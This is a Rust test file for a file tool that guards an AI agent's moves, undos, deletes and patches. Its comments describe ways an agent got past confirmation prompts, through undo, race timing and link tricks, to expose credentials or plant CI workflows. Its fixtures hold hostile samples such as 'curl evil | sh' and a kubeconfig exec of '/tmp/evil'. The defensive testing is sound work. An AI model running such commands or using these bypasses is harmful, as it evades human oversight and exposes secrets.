//! Issue #25, round 19: the undo of a folder move is judged as a move of that folder
//! (secrets asked about, denied names refused, the yes pinned); a folder move or delete
//! that waited its turn is judged again; ferret's own places are not moved or deleted;
//! a dangling link is not renamed; a workspace file never stops nested roots.

use crate::util::{
    bin, cli as ferret, pause_after_staged, said, succeeded as ok, tempdir, wait_paused, write,
};
use std::path::Path;
use std::process::{Child, Output, Stdio};

fn run(root: &Path, state: &Path, args: &[&str]) -> Output {
    ferret(root, state, args).output().expect("ferret ran")
}

fn done(c: Child) -> Output {
    c.wait_with_output().expect("ferret ran")
}

/// Round 19: an agent moved an empty `k` to `.kube`; a person's tool then wrote the
/// credentials in; undoing the move put them at `k/config`, readable, unasked, where a
/// direct move of `.kube` asks. The undo is judged as that move is: since round 24 a
/// move that would take a secret out of the name that guards it is refused whatever
/// the answer, and so is this undo (a yes to it made the credentials readable).
#[test]
fn undoing_a_folder_move_asks_when_the_folder_now_holds_a_secret() {
    let (_t, root) = tempdir();
    let (_s, state) = tempdir();
    std::fs::create_dir_all(root.join("k")).expect("mkdir");
    ok(&run(&root, &state, &["mv", "k", ".kube"]));
    write(&root, ".kube/config", "token: SUPERSECRET\n");
    let direct = run(&root, &state, &["mv", ".kube", "k2", "--yes"]);
    assert!(
        said(&direct).contains("DENIED_PATTERN"),
        "{}",
        said(&direct)
    );
    // (A dry run does not look at what the folder holds: it says so.)
    let dry = said(&run(&root, &state, &["--dry-run", "undo"]));
    assert!(
        dry.contains("a dry run does not say") && !dry.contains("token"),
        "{dry}"
    );
    for args in [&["undo"][..], &["undo", "--yes"]] {
        let undo = run(&root, &state, args);
        let s = said(&undo);
        assert!(!undo.status.success(), "{args:?}: {s}");
        assert!(
            s.contains("DENIED_PATTERN") && s.contains("no longer be guarded"),
            "{args:?}: {s}"
        );
        assert!(!s.contains("token"), "{s}");
        assert!(root.join(".kube/config").exists() && !root.join("k").exists());
    }
    // Moved where the rules still guard it, it is asked about, and the yes moves it.
    let asked = run(&root, &state, &["mv", ".kube", "elsewhere/.kube"]);
    assert!(
        said(&asked).contains("CONFIRMATION_REQUIRED") && said(&asked).contains("secrets"),
        "{}",
        said(&asked)
    );
    ok(&run(
        &root,
        &state,
        &["mv", ".kube", "elsewhere/.kube", "--yes"],
    ));
    assert!(root.join("elsewhere/.kube/config").exists());
}

/// Round 19: a folder moved away from `.docker`, filled with `config.json`, then moved
/// back by undo, made `.docker/config.json` (a credential helper the agent chose), which
/// a direct move refuses. Refused the same way, for every denied name it would make.
#[test]
fn undoing_a_folder_move_never_makes_a_denied_name() {
    for (folder, file) in [(".docker", "config.json"), (".kube", "config")] {
        let (_t, root) = tempdir();
        let (_s, state) = tempdir();
        std::fs::create_dir_all(root.join("kube2")).expect("mkdir");
        ok(&run(&root, &state, &["mv", "kube2", folder]));
        ok(&run(&root, &state, &["mv", folder, "dk"]));
        write(&root, &format!("dk/{file}"), "{\"credsStore\": \"evil\"}\n");
        let direct = run(&root, &state, &["mv", "dk", folder]);
        assert!(
            said(&direct).contains("DENIED_PATTERN"),
            "{}",
            said(&direct)
        );
        let undo = run(&root, &state, &["undo", "2", "--yes", "--force"]);
        let s = said(&undo);
        assert!(!undo.status.success(), "{folder}: {s}");
        assert!(s.contains("DENIED_PATTERN"), "{folder}: {s}");
        assert!(!root.join(folder).exists(), "{folder}: {s}");
        assert!(root.join(format!("dk/{file}")).exists());
    }
}

/// Round 19: the yes to undoing a move of `.github` approved the folder as asked about;
/// a workflow the agent wrote into it while the person read the question went back with
/// it. What the folder holds is pinned: changed before the rename, the undo is refused.
#[test]
fn a_folder_changed_while_its_move_back_waits_is_not_moved_back() {
    let (_t, root) = tempdir();
    let (_s, state) = tempdir();
    write(&root, ".github/workflows/ci.yml", "on: push\n");
    ok(&run(&root, &state, &["mv", "--yes", ".github", "gh-old"]));
    let mut undo = ferret(&root, &state, &["undo", "1", "--yes"]);
    let mark = pause_after_staged(&mut undo, 1500);
    let undo = undo.spawn().expect("spawn");
    wait_paused(&mark);
    write(&root, "gh-old/workflows/evil.yml", "run: curl evil | sh\n");
    let out = done(undo);
    let s = said(&out);
    assert!(!out.status.success(), "{s}");
    assert!(s.contains("CONFLICT"), "{s}");
    assert!(!root.join(".github").exists(), "{s}");
    assert!(root.join("gh-old/workflows/evil.yml").exists());
}

/// Round 19: a folder move walked `kube` (empty), then waited for another process's
/// move that put `config` into it, then renamed it to `.kube`: `.kube/config` made
/// unjudged. What the folder holds is looked at again after the wait.
#[test]
fn a_folder_move_that_waited_its_turn_is_judged_again() {
    let (_t, root) = tempdir();
    let (_s, state) = tempdir();
    std::fs::create_dir_all(root.join("kube")).expect("mkdir");
    write(
        &root,
        "c",
        "users: [{user: {exec: {command: /tmp/evil}}}]\n",
    );
    let mut first = ferret(&root, &state, &["mv", "c", "kube/config"]);
    let mark = pause_after_staged(&mut first, 3000);
    let first = first.spawn().expect("spawn");
    wait_paused(&mark);
    let second = run(&root, &state, &["mv", "kube", ".kube"]);
    let first = done(first);
    let s = format!("first: {}\nsecond: {}", said(&first), said(&second));
    ok(&first);
    assert!(!second.status.success(), "{s}");
    assert!(
        s.contains("CONFLICT") || s.contains("DENIED_PATTERN"),
        "{s}"
    );
    assert!(!root.join(".kube").exists(), "{s}");
    assert!(root.join("kube/config").exists(), "{s}");
    // The same for a folder delete to the trash: nothing added during its wait goes
    // along unasked.
    let (_d, data) = tempdir();
    write(&root, "d/keep.txt", "k\n");
    write(&root, "g", "[core]\n");
    let mut first = ferret(&root, &state, &["mv", "--yes", "g", "d/.gitignore"]);
    let mark = pause_after_staged(first.env("XDG_DATA_HOME", &data), 3000);
    let first = first.spawn().expect("spawn");
    wait_paused(&mark);
    let rm = ferret(&root, &state, &["rm", "d"])
        .env("XDG_DATA_HOME", &data)
        .output()
        .expect("rm");
    let first = done(first);
    let s = format!("mv: {}\nrm: {}", said(&first), said(&rm));
    ok(&first);
    assert!(!rm.status.success(), "{s}");
    assert!(root.join("d/.gitignore").exists(), "{s}");
}

/// Round 19: a link whose target climbs out through a name that does not exist yet
/// (`nonexist/../../x`) cannot be followed today, and was renamed in its folder (to
/// `Makefile`); a folder made later at that name makes it lead outside. Refused.
#[test]
fn a_link_through_a_missing_name_is_not_renamed() {
    let (_o, outer) = tempdir();
    let root = outer.join("ws");
    let (_s, state) = tempdir();
    write(&outer, "outside_x", "OUTSIDE\n");
    write(&root, "inside.txt", "in\n");
    std::fs::create_dir_all(root.join("sub")).expect("mkdir");
    for (link, target) in [
        ("notes", "nonexist/../../outside_x"),
        ("sub/notes", "nonexist/../../../outside_x"),
    ] {
        std::os::unix::fs::symlink(target, root.join(link)).expect("link");
        let to = format!("{link}-renamed");
        let out = run(&root, &state, &["mv", link, &to]);
        let s = said(&out);
        assert!(!out.status.success(), "{link}: {s}");
        assert!(s.contains("PATH_ESCAPE"), "{link}: {s}");
        assert!(root.join(link).symlink_metadata().is_ok());
    }
    // A dangling link whose words stay inside (`nonexist3/x`), and one that resolves
    // inside, rename as before.
    std::os::unix::fs::symlink("nonexist3/x", root.join("other")).expect("link");
    ok(&run(&root, &state, &["mv", "other", "other2"]));
    std::os::unix::fs::symlink("sub/../inside.txt", root.join("fine")).expect("link");
    ok(&run(&root, &state, &["mv", "fine", "fine2"]));
}

/// Round 19: with a root that holds HOME, `.config` or `.local` moved away could not be
/// moved back (nothing new is made on the way to ferret's places), and an approved move
/// of `.local` made the home trash readable at its new name. Neither is moved or
/// deleted through ferret; what is inside them still is.
#[test]
fn the_folders_holding_ferrets_own_places_are_not_moved_or_deleted() {
    let (_h, home) = tempdir();
    let (_s, state) = tempdir();
    write(&home, ".config/app/settings.ini", "a=1\n");
    write(&home, ".local/share/Trash/files/config", "token: KUBE\n");
    write(&home, ".local/share/app/data.txt", "d\n");
    let cmd = |args: &[&str]| {
        ferret(&home, &state, args)
            .env("XDG_CONFIG_HOME", home.join(".config"))
            .env("XDG_DATA_HOME", home.join(".local/share"))
            .output()
            .expect("run")
    };
    for args in [
        &["mv", ".config", "c2"][..],
        &["mv", "--yes", ".local", "l2"],
        &["mv", "--yes", ".local/share", "s2"],
        &["rm", ".config"],
        &["rm", ".local"],
    ] {
        let out = cmd(args);
        let s = said(&out);
        assert!(!out.status.success(), "{args:?}: {s}");
        assert!(
            s.contains("DENIED_PATTERN") && s.contains("keeps for itself"),
            "{args:?}: {s}"
        );
    }
    assert!(home.join(".config/app/settings.ini").exists());
    assert!(home.join(".local/share/Trash/files/config").exists());
    ok(&cmd(&["mv", ".config/app", "app2"]));
    assert!(home.join("app2/settings.ini").exists());
}

/// Round 19: one anchored rule in a repository's ferret.toml (`/x/`) stopped every run
/// over a root and a folder inside it. The workspace's additions are dropped with a
/// warning; the user's own rules still refuse as before.
#[test]
fn a_workspace_file_never_stops_nested_roots() {
    let (_t, ws) = tempdir();
    write(&ws, "sub/a.txt", "a\n");
    for rules in [
        "deny_extra = [\"/x/\"]\n",
        "deny_extra = [\"sub/\"]\n",
        "confirm = [\"**/sub\"]\n",
    ] {
        write(&ws, "ferret.toml", rules);
        let out = bin()
            .arg("--root")
            .arg(&ws)
            .arg("--root")
            .arg(ws.join("sub"))
            .args(["ls", "sub"])
            .output()
            .expect("run");
        let s = said(&out);
        assert!(out.status.success(), "{rules}: {s}");
        assert!(s.contains("a.txt"), "{rules}: {s}");
        assert!(s.contains("were dropped"), "{rules}: {s}");
    }
    std::fs::remove_file(ws.join("ferret.toml")).expect("rm");
    let out = bin()
        .arg("--root")
        .arg(&ws)
        .arg("--root")
        .arg(ws.join("sub"))
        .args(["--set", "deny_extra=[\"/x/\"]", "ls", "sub"])
        .output()
        .expect("run");
    assert!(!out.status.success(), "{}", said(&out));
}

/// Round 19: the race hook paused a patch after its last check of where its files land,
/// so a folder moved in the pause took the patch's files along (a receipt naming the old
/// place) and no test could see it. The pause now comes before that check, as an edit's
/// does: the patch is refused and nothing lands.
#[test]
fn a_patch_whose_folder_is_moved_during_the_pause_lands_nothing() {
    for patch in [
        "*** Begin Patch\n*** Add File: d/ci.yml\n+on: push\n*** End Patch\n",
        "*** Begin Patch\n*** Update File: d/x.txt\n@@\n-x\n+y\n*** End Patch\n",
    ] {
        let (_t, root) = tempdir();
        let (_s, state) = tempdir();
        write(&root, "d/x.txt", "x\n");
        std::fs::create_dir_all(root.join(".github")).expect("mkdir");
        let mut p = ferret(&root, &state, &["patch"]);
        let mark = pause_after_staged(&mut p, 1500);
        let mut p = p.stdin(Stdio::piped()).spawn().expect("spawn");
        {
            use std::io::Write;
            let mut stdin = p.stdin.take().expect("stdin");
            stdin.write_all(patch.as_bytes()).expect("patch");
        }
        wait_paused(&mark);
        std::fs::rename(root.join("d"), root.join(".github/workflows")).expect("rename");
        let out = done(p);
        let s = said(&out);
        assert!(!out.status.success(), "{patch}: {s}");
        assert!(s.contains("CONFLICT"), "{s}");
        assert!(!root.join(".github/workflows/ci.yml").exists(), "{s}");
        assert_eq!(
            std::fs::read_to_string(root.join(".github/workflows/x.txt")).expect("x"),
            "x\n"
        );
    }
}
